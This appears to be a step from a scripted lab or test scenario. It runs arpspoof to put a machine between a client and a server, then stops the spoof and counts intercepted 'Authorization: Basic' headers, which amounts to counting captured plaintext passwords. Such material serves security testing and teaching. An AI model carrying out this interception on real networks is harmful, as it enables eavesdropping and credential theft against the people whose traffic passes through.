# Stand between the client and the server for a time.
await visited
phase spoof
arpspoof -i eth0 -t "$CLIENT_ADDRESS" -r "$SERVER_ADDRESS" >/root/spoof 2>&1 &
spoof=$!
signal between
await over
# Both tell the right addresses before they end.
kill -INT $spoof
wait $spoof || true
signal gone
await end
outcome passwords="$(log reader | grep -c 'Authorization: Basic' || true)"
